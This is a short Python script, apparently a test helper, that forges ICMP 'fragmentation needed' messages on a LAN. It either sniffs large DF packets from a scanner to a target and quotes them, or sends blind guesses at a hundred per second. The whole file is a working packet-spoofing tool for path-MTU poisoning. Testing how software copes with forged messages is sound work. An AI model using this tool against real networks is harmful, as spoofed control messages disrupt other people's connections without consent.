#!/usr/bin/python3
"""Forges fragmentation-needed on a LAN:  frag_forger.py INTERFACE SCANNER TARGET MTU seen|blind

seen   whenever a large datagram with DF from SCANNER to TARGET comes by, it is quoted at once, perfectly
blind  guesses, a hundred times a second, without seeing anything
Says "ready" when it has begun; ends when it is killed.
"""
import socket
import struct
import sys
import time


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ip(source, target, protocol, body, ident=1, flags=0):
    def header(check):
        return struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(body), ident, flags, 64, protocol, check,
                           socket.inet_aton(source), socket.inet_aton(target))
    return header(checksum(header(0))) + body


def claim(own, scanner, mtu, quote):
    def body(check):
        return struct.pack(">BBHHH", 3, 4, check, 0, mtu) + quote
    return ip(own, scanner, 1, body(checksum(body(0))))


def main():
    interface, scanner, target, mtu, how = sys.argv[1:6]
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    probe.connect((scanner, 9))
    own = probe.getsockname()[0]
    seen = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
    seen.bind((interface, 0))
    print("ready", flush=True)
    guess = 0
    while True:
        if how == "blind":
            guess = (guess * 75 + 74) % 65537
            body = struct.pack(">BBHHH", 8, 0, guess & 0xFFFF, guess & 0xFFFF, guess >> 1)
            quote = ip(scanner, target, 1, body + b"\0" * 8, guess & 0xFFFF, 0x4000)
            raw.sendto(claim(own, scanner, int(mtu), quote), (scanner, 0))
            time.sleep(0.01)
            continue
        packet = seen.recv(65535)[14:]
        large = len(packet) > int(mtu) and packet[6] & 0x40
        if large and packet[12:16] == socket.inet_aton(scanner) and packet[16:20] == socket.inet_aton(target):
            raw.sendto(claim(own, scanner, int(mtu), packet[:28]), (scanner, 0))


main()
